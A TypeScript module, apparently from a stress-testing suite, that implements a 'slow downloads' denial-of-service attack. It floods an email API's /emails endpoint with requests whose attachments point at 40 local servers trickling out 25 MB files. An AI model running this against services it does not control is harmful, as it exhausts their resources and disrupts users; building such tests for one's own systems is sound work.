import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Attack } from './attack.ts'
import { call, repeat } from './requests.ts'

const ORIGINS = 40
const AT_ONCE = 200
const PIECE = Buffer.alloc(256 * 1024)
const PIECES = 100
const PIECE_EVERY_MS = 100

/** Attachments that are to be downloaded from as many servers as one likes, 25 MB each, in ten seconds. */
export const attack: Attack = {
  name: 'slow downloads',
  async run(target, signal) {
    const servers = Array.from({ length: ORIGINS }, () =>
      createServer((_request, response) => {
        let sent = 0
        const timer = setInterval(() => {
          response.write(PIECE)
          if (++sent === PIECES) response.end()
        }, PIECE_EVERY_MS)
        response.on('close', () => clearInterval(timer))
      }).listen(0, '127.0.0.1'),
    )
    await Promise.all(servers.map((server) => once(server, 'listening')))
    const urls = servers.map((server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}/a.bin`)
    let turn = 0
    await repeat(signal, AT_ONCE, () => {
      const attachments = [{ path: urls[turn++ % ORIGINS] }]
      const email = { from: 'a@attacker.dev', to: 'b@attacker.dev', subject: 'x', text: 'x', attachments }
      return call(target, 'POST', '/emails', email, signal)
    })
  },
}
